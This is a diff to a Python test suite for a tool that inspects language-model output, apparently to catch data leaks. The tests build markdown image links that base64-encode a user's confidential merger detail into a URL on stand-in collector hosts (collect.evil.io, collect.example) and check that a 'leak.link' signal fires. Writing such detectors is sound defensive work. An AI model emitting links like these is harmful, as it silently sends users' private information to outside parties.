@@ -239,7 +239,7 @@ def test_a_streamed_call_is_judged_before_it_leaves() -> None:
 
 def test_a_link_that_the_model_did_not_make_is_none_of_its_own_in_a_stream() -> None:
     said = "the merger with Northwind closes on Friday at noon"
-    text = f"![chart](https://collect.evil.example/p?d={base64.urlsafe_b64encode(said.encode()).decode()}) "
+    text = f"![chart](https://collect.evil.io/p?d={base64.urlsafe_b64encode(said.encode()).decode()}) "
     found = {}
     for block in ("choice/0", f"{FOREIGN}copy/1"):
         scanner = inspector().open_stream_scanner(answer(request(user(said))))
@@ -247,3 +247,10 @@ def test_a_link_that_the_model_did_not_make_is_none_of_its_own_in_a_stream() -> 
         told = [*scanner.feed(block, text)[1], *scanner.end(block)]
         found[block] = {one.rule for one in told if isinstance(one, Signal)}
     assert found == {"choice/0": {"leak.link"}, f"{FOREIGN}copy/1": set()}
+
+
+def test_a_reserved_name_is_a_host_like_any_other() -> None:
+    said = "the merger with Northwind closes on Friday at noon"
+    text = f"![chart](https://collect.example/p?d={base64.urlsafe_b64encode(said.encode()).decode()})"
+    found = {one.rule for one in inspector().inspect(answer(request(user(said)), text)) if isinstance(one, Signal)}
+    assert found == {"leak.link"}
